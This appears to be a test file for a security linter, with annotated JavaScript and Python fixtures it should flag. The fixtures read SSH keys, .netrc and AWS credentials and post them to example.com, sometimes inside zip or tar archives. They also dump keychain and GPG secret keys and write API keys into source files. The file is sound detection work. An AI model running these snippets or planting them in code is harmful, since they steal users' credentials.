/** Secrets that are gathered: by paths that are put together, in archives, from key stores, into files of code. */

import { checksOf } from '../kit/check.ts';

describe('secrets that are gathered', () => {
  const { python, javascript } = checksOf('credential-exfiltration');

  it('lie where callbacks put a path together', () => {
    javascript`
      const fs = require('fs');
      const os = require('os');
      const keys = ['.ssh/id_rsa', '.netrc'].reduce((all, name) => {
        all[name] = fs.readFileSync(\`\${os.homedir()}/\${name}\`, 'utf8');
        return all;
      }, {});
      fetch('https://example.com/', { method: 'POST', body: JSON.stringify(keys) });
                                                            ^^^^^^^^^^^^^^^^^^^^ credential-exfiltration
      const mapped = ['.ssh/id_rsa'].map((name) => fs.readFileSync(\`\${os.homedir()}/\${name}\`, 'utf8'));
      fetch('https://example.com/', { method: 'POST', body: JSON.stringify(mapped) });
                                                            ^^^^^^^^^^^^^^^^^^^^^^ credential-exfiltration
      const notes = ['notes.txt'].map((name) => fs.readFileSync(\`\${os.homedir()}/\${name}\`, 'utf8'));
      fetch('https://example.com/', { method: 'POST', body: JSON.stringify(notes) });
    `;
    python`
      import functools
      import glob
      import os
      from pathlib import Path
      import requests

      keys = functools.reduce(lambda all, name: all + Path.home().joinpath(name).read_text(), [".ssh/id_rsa"], "")
      requests.post("https://example.com", data=keys)
                                           ^^^^^^^^^ credential-exfiltration
      for name in glob.glob(os.path.expanduser("~/.ssh/id_*")):
          requests.post("https://example.com", data=open(name).read())
                                               ^^^^^^^^^^^^^^^^^^^^^^ credential-exfiltration
      for name in glob.glob(os.path.expanduser("~/pictures/*.png")):
          requests.post("https://example.com", data=open(name, "rb").read())
    `;
  });

  it('leave in archives that objects keep', () => {
    python`
      import io
      import os
      import tarfile
      import zipfile
      import requests

      class Zip:
          def __init__(self):
              self.buffer = io.BytesIO()
              self.archive = zipfile.ZipFile(self.buffer, "w")

          def add(self, name, text):
              self.archive.writestr(name, text)

          def close(self):
              self.archive.close()
              return self.buffer.getvalue()

      class Tar:
          def __init__(self):
              self.buffer = io.BytesIO()
              self.archive = tarfile.open(fileobj=self.buffer, mode="w:gz")

          def add(self, path):
              self.archive.add(path)

      def send_zip():
          archive = Zip()
          archive.add("aws", open(os.path.expanduser("~/.aws/credentials")).read())
          requests.post("https://example.com", data=archive.close())
                                               ^^^^^^^^^^^^^^^^^^^^ credential-exfiltration

      def send_tar():
          archive = Tar()
          archive.add(os.path.expanduser("~/.aws/credentials"))
          requests.post("https://example.com", data=archive.buffer.getvalue())
                                               ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ credential-exfiltration
    `;
    python`
      import io
      import zipfile
      import requests

      buffer = io.BytesIO()
      archive = zipfile.ZipFile(buffer, "w")
      archive.write("report.csv")
      requests.post("https://example.com", data=buffer.getvalue())
    `;
  });
});

describe('key stores', () => {
  const { python } = checksOf('credential-access', 'credential-exfiltration');

  it('are asked by commands', () => {
    python`
      import subprocess
      import requests

      subprocess.check_output(["security", "find-generic-password", "-s", "mail", "-w"], text=True)
                              ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ credential-access
      subprocess.run("gpg --export-secret-keys --armor", shell=True, capture_output=True)
                      ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ credential-access
      subprocess.check_output(["security", "list-keychains"], text=True)
      subprocess.run(["gpg", "--export", "--armor"], capture_output=True)
    `;
  });

  it('are told once where they are listed to be read', () => {
    python`
      import glob
      import os

      def read():
          for name in glob.glob(os.path.expanduser("~/.ssh/id_*")):
              print(open(name).read())
                    ^^^^^^^^^^ credential-access
    `;
    python`
      import glob
      import os

      def count():
          return len(glob.glob(os.path.expanduser("~/.ssh/id_*")))
                     ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ credential-access
    `;
  });
});

describe('secrets of the environment', () => {
  const { python } = checksOf('exposed-secret');

  it('are exposed where they are written into files of code', () => {
    python`
      import os
      from pathlib import Path

      def deploy(customer):
          folder = Path("deployments") / customer
          with open(folder / "settings.py", "w") as file:
              file.write(f"API_KEY = {os.environ['BILLING_API_KEY']!r}\n")
                         ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exposed-secret
          with open(folder / "settings.ini", "w") as file:
              file.write(f"API_KEY = {os.environ['BILLING_API_KEY']}\n")
          with open(folder / "region.py", "w") as file:
              file.write(f"REGION = {os.environ['REGION']!r}\n")

      Path("src/config.ts").write_text("export const key = " + repr(os.getenv("STRIPE_SECRET_KEY")))
                                       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exposed-secret
    `;
  });
});
